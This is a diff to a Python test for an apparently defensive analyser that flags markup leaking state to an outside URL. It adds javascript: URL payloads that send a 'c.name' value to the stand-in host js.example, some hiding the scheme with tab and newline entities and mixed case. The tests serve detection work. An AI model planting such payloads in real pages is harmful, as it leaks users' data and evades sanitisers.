@@ -78,7 +78,10 @@ def test_the_code_of_a_javascript_url_is_the_block_s_script():
     the block's script, not called a URL that never loads."""
     for markup in ('<a href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
                    '<iframe src="javascript:void(new Image().src=\'https://js.example/?\'+%20flowUi.get(\'c.name\'))"></iframe>',
-                   '<svg><a xlink:href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')"><text>go</text></a></svg>'):
+                   '<svg><a xlink:href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')"><text>go</text></a></svg>',
+                   # The URL standard drops tabs and newlines and strips controls around it (WebKitGTK ran both).
+                   '<a href="java&#9;script:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
+                   '<a href=" &#10;JavaScript&#13;:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>'):
         found = rules(markup)
         assert [f.paths for f in found["exfil.state-to-url"]] == [["c.name"]], markup
         assert "url.blocked-scheme" not in found and "blocked.nested-frame" not in found, markup
